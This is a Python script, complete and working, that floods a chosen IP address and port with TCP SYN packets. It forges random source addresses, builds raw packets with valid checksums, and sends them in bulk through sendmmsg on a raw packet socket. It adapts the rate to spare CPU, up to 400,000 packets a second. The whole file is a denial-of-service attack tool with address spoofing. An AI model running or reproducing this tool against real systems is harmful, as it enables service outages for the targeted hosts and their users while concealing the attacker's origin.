"""Sends SYNs from random addresses and ports, as fast as leaves the machine a share of its processors.

Arguments: device, the neighbour's MAC address, address and port to flood, and how many SYNs to send at least, in how many seconds at
least. Prints how many it sent, and in how many seconds.
"""

import ctypes
import errno
import random
import socket
import struct
import sys
import time

_IDLE = 0.3  # share of all processors
_TICK = 0.005  # seconds between bursts
_LOOK = 0.1  # seconds between looks at the processors
_SLOWEST, _FASTEST = 20_000, 400_000  # SYNs a second
_PREPARED = 1 << 16
_SIZE = 40  # bytes of a packet: no options
_ETH_P_IP = 0x0800

_LIBC = ctypes.CDLL(None, use_errno=True)


class _Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


class _Message(ctypes.Structure):
    """struct mmsghdr"""

    _fields_ = [
        ("name", ctypes.c_void_p), ("name_length", ctypes.c_uint32),
        ("vector", ctypes.c_void_p), ("vectors", ctypes.c_size_t),
        ("control", ctypes.c_void_p), ("control_length", ctypes.c_size_t), ("flags", ctypes.c_int), ("padding", ctypes.c_int),
        ("sent", ctypes.c_uint32),
    ]


def _sum(words):
    total = sum(words)
    total = (total & 0xFFFF) + (total >> 16)
    return (total & 0xFFFF) + (total >> 16)


def _syn(destination, port):
    """One SYN, from an address between 11.0.0.0 and 99.255.255.255."""
    source, source_port, sequence = random.randrange(11 << 24, 100 << 24), random.randrange(1024, 65536), random.getrandbits(32)
    addresses = struct.pack("!I4s", source, socket.inet_aton(destination))
    ip = struct.pack("!BBHHHBBH", 0x45, 0, _SIZE, 0, 0x4000, 64, socket.IPPROTO_TCP, 0) + addresses
    tcp = struct.pack("!HHIIBBHHH", source_port, port, sequence, 0, 5 << 4, 2, 64240, 0, 0)
    head = 0xFFFF - _sum(struct.unpack("!10H", ip))
    check = 0xFFFF - _sum((*struct.unpack("!10H", tcp), *struct.unpack("!4H", addresses), socket.IPPROTO_TCP, 20))
    return ip[:10] + struct.pack("!H", head) + ip[12:] + tcp[:16] + struct.pack("!H", check) + tcp[18:]


class _Volley:
    """Packets ready to be sent, and sent again when all were."""

    def __init__(self, device, mac, destination, port):
        self._raw = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0)
        bytes_ = b"".join(_syn(destination, port) for _ in range(_PREPARED))
        self._packets = ctypes.create_string_buffer(bytes_, len(bytes_))
        index = socket.if_nametoindex(device)
        neighbour = struct.pack("=HHiHBB8s", socket.AF_PACKET, socket.htons(_ETH_P_IP), index, 0, 0, len(mac), mac)
        self._address = ctypes.create_string_buffer(neighbour, len(neighbour))
        first = ctypes.addressof(self._packets)
        self._vectors = (_Vector * _PREPARED)(*(_Vector(first + at * _SIZE, _SIZE) for at in range(_PREPARED)))
        at_vectors, name = ctypes.addressof(self._vectors), ctypes.addressof(self._address)
        step = ctypes.sizeof(_Vector)
        self._messages = (_Message * _PREPARED)(*(_Message(name, len(neighbour), at_vectors + at * step, 1) for at in range(_PREPARED)))
        self._next = 0

    def send(self, count):
        """Sends up to so many; returns how many."""
        count = min(count, _PREPARED - self._next)
        sent = _LIBC.sendmmsg(self._raw.fileno(), ctypes.byref(self._messages[self._next]), count, 0)
        if sent < 0:
            if ctypes.get_errno() == errno.ENOBUFS:
                return 0  # the device's queue is full
            raise OSError(ctypes.get_errno(), "sendmmsg")
        self._next = (self._next + sent) % _PREPARED
        return sent


def _processors():
    """Idle and all time of the processors."""
    with open("/proc/stat") as file:
        times = [int(word) for word in file.readline().split()[1:9]]
    return times[3] + times[4], sum(times)


def flood(volley, count, seconds):
    """Returns how many were sent, in how many seconds."""
    began = looked = paced = time.monotonic()
    idle, all_time = _processors()
    rate, sent = _SLOWEST, 0
    while sent < count or paced - began < seconds:
        time.sleep(_TICK)
        now = time.monotonic()
        due = int(rate * min(now - paced, 10 * _TICK))
        paced = now
        while due > 0 and (gone := volley.send(due)) > 0:
            sent, due = sent + gone, due - gone
        if now - looked >= _LOOK:
            idle_now, all_now = _processors()
            share = (idle_now - idle) / max(1, all_now - all_time)
            rate = min(max(rate * (1.1 if share > _IDLE else 0.8), _SLOWEST), _FASTEST)
            looked, idle, all_time = now, idle_now, all_now
    return sent, paced - began


def main():
    device, mac, destination, port, count, seconds = sys.argv[1:]
    volley = _Volley(device, bytes.fromhex(mac.replace(":", "")), destination, int(port))
    print(*flood(volley, int(count), float(seconds)))


if __name__ == "__main__":
    main()
